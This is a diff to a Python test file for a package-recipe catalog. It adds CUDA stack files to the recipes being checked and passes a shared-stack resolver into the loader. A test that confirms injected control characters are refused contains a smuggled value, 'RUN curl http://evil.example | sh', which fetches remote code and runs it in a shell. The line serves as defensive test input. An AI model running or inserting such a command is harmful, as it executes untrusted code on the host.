@@ -9,21 +9,23 @@ from __future__ import annotations
 import copy
 import json
 from collections.abc import Iterator
+from functools import partial
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
 
-from farm.catalog import load_model
+from farm.catalog import load_model, load_stacks, with_shared_stack
 from farm.debs import PackageLock
 from farm.errors import CatalogError
-from farm.models import Recipe, Target
+from farm.models import CudaStack, Recipe, Target
 from farm.paths import data_dir
 
 RECIPES = data_dir("recipes")
 FILES = [
     *((path, Target) for path in sorted(RECIPES.glob("targets/*.yaml"))),
+    *((path, CudaStack) for path in sorted(RECIPES.glob("stacks/*.yaml"))),
     *((path, Recipe) for path in sorted(RECIPES.glob("packages/*.yaml"))),
     *((path, PackageLock) for path in sorted(RECIPES.glob("packages/locks/*.yaml"))),
 ]
@@ -82,8 +84,11 @@ def test_a_control_character_in_any_field_is_refused_naming_it(
     injected = node + ("\x1b[2J" if multiline else "\nRUN curl http://evil.example | sh")
     broken = tmp_path / path.name
     broken.write_text(yaml.safe_dump(_set(data, leaf, injected), sort_keys=False, width=10**6))
+    # A target's shared CUDA stack is put in place as the catalog does it.
+    stacks = load_stacks([RECIPES])
+    resolve = partial(with_shared_stack, path=broken, stacks=stacks) if model is Target else None
     with pytest.raises(CatalogError) as caught:
-        load_model(broken, model)
+        load_model(broken, model, resolve)
     message = str(caught.value)
     assert message.startswith(f"{broken}: ")
     named = message.removeprefix(f"{broken}: ").split(": ", 1)[0]
